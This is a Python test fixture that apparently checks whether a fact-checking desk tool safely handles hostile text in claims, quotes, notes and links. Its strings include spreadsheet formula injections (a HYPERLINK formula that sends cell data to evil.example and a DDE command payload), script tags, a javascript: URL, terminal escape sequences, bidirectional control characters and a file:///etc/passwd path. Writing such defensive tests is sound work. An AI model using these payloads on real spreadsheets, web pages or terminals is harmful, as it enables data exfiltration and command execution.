"""A case in which whatever a document or a person can write tries to be more than text."""

from headline import Desk

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"蒋璐")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "＝1+1",
    '  "=1+1',
    "'=1+1",
    "甲;=1+1",
    "甲\n=1+1",
    "\t=1+1",
    "\r=1+1",
)
MARKS = (
    "<script>alert(1)</script> </w:t></w:r> &amp; ]]> 蒋璐转投 TikTok",
    "\x1b[31m红\x1b]8;;https://evil.example\x07链 \u202e倒\u2066 \u200b\ufeff \x00\x7f\x85 \ufffe\uffff",
    "https://evil.example/a file:///etc/passwd \\\\evil\\share",
)
HOSTILE = FORMULAS + MARKS
ADDRESS = "https://example.org/ok?a=1&b=2"


def unfriendly():
    """Every claim is worded, quoted, judged and noted in such words, and each cites an address that no link may lead to."""
    desk = Desk("甲。".join(HOSTILE), title=HOSTILE[0], solo=True)
    desk.suggest(*((text, text, "cost", {}) for text in HOSTILE))
    for number, text in enumerate(HOSTILE, start=1):
        claim = f"C{number}"
        desk.attach(claim, number * 2, url=ADDRESS, quote=text, note=text)
        desk.attach(claim, number * 2 + 1, url=f"javascript:alert({number})//{text}", quote=text)
        desk.decide(claim, "refuted", text, [f"E{number * 2}"])
        desk.act("note.added", claim, text=text)
    return desk
